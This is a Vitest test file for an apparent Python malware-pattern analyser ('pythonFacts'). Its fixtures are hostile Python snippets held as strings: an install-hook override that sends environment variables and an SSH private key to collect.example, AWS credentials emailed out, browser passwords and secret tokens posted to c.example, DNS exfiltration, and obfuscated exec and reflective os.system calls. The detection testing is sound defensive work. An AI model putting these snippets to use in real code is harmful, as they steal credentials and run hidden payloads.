import { describe, expect, it } from 'vitest';
import { pythonFacts } from './python-facts.js';

describe('pythonFacts', () => {
  it('resolves imports with aliases, getattr with built names and decoded exec', () => {
    const facts = pythonFacts(`import os, base64 as b
from subprocess import Popen as P
getattr(os, 'sys' + 'tem')('id')
P(['sh'], start_new_session=True)
exec(b.b64decode('cHJpbnQoMSk='))
`);
    const callees = facts.calls.map((c) => c.callee);
    expect(callees).toEqual(expect.arrayContaining(['os.system', 'subprocess.Popen', 'exec', 'base64.b64decode']));
    expect(facts.hiddenNames[0]).toMatchObject({ name: 'system', line: 3 });
    expect(facts.calls.find((c) => c.callee === 'exec')).toMatchObject({ directDecode: true, args: ['print(1)'] });
    expect(facts.calls.find((c) => c.callee === 'subprocess.Popen')?.options.start_new_session).toBe('True');
  });

  it('follows os.environ and credential files into a request and finds command overrides', () => {
    const facts = pythonFacts(`import os, json, requests
from setuptools.command.install import install
class Post(install):
    def run(self):
        data = json.dumps(dict(os.environ))
        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        requests.post('https://collect.example', data=data, files={'k': key})
`);
    const post = facts.calls.find((c) => c.callee === 'requests.post');
    expect(post?.argLabels).toEqual(expect.arrayContaining(['env', 'secret']));
    expect(facts.envDumps[0]?.line).toBe(5);
    expect(facts.commandOverrides).toEqual([{ base: 'install', name: 'Post', line: 3 }]);
  });
});

describe('pythonFacts: runtime payloads', () => {
  it('sees decoding through local lambdas and chr joins, and taint through with-bindings and message containers', () => {
    const layered = pythonFacts(`_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]))\nexec((_)(b'abc'))\nexec(''.join(map(chr, [112, 114])))\n`);
    expect(layered.calls.filter((c) => c.callee === 'exec').map((c) => c.directDecode)).toEqual([true, true]);
    const mail = pythonFacts(`import os, smtplib\nfrom email.message import EmailMessage\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nmsg = EmailMessage()\nmsg.set_content(creds)\nwith smtplib.SMTP('smtp.mail.example') as s:\n    s.send_message(msg)\n`);
    expect(mail.calls.find((c) => c.callee === 's.send_message')).toMatchObject({ onChannel: true, argLabels: expect.arrayContaining(['secret']) });
  });

  it('records monkey-patched library functions, secret variable names and loops outside the __main__ guard only', () => {
    const facts = pythonFacts(`import os, requests\nrequests.Session.send = lambda *a: None\nt = os.environ["GITHUB_TOKEN"]\nif __name__ == "__main__":\n    while True:\n        pass\n`);
    expect(facts.hooks).toEqual([{ target: 'requests.Session.send', line: 2 }]);
    expect(facts.secretEnvNames.map((e) => e.name)).toEqual(['GITHUB_TOKEN']);
    expect(facts.endlessTopLevelLoops).toEqual([]);
  });
  it('resolves __dict__, __getattribute__, getattr, __import__ and __call__ and reports the sensitive calls they reach', () => {
    const facts = pythonFacts(`import os
os.__dict__["startfile"]("a.exe")
os.__getattribute__("system").__call__("id")
getattr(__import__("subprocess"), "check_output")(["id"])
__import__("os").popen("id")
os.path.join("a", "b")
`);
    expect(facts.reflectiveCalls.map((r) => [r.callee, r.via, r.line])).toEqual([
      ['os.startfile', '__dict__', 2],
      ['os.system', '__getattribute__', 3],
      ['subprocess.check_output', 'getattr', 4],
      ['os.popen', '__import__', 5],
    ]);
  });

  it('follows host identity into DNS names, resolver instances, credential queries and self attributes', () => {
    const facts = pythonFacts(`import os, socket, getpass, sqlite3, requests
import dns.resolver
r = dns.resolver.Resolver()
r.resolve(f"{getpass.getuser()}.x.example", "A")
rows = sqlite3.connect("db").cursor().execute("SELECT origin_url, password_value FROM logins").fetchall()
requests.post("https://c.example", json=rows)
class C:
    def __init__(self):
        self.k = os.getenv("AWS_SECRET_ACCESS_KEY")
    def go(self):
        requests.get("https://c.example/" + self.k)
`);
    expect(facts.calls.find((c) => c.callee === 'dns.resolver.Resolver.resolve')?.argLabels).toContain('hostinfo');
    expect(facts.calls.find((c) => c.callee === 'requests.post')?.argLabels).toContain('secret');
    expect(facts.calls.find((c) => c.callee === 'requests.get')?.argLabels).toContain('envtoken');
  });
});
